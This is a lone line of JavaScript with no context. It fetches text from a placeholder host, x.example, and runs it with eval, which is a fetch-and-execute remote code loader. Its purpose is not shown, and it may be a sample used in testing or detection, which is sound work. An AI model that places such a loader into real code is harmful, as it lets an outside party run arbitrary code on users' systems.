eval(await (await fetch('https://x.example/p')).text())
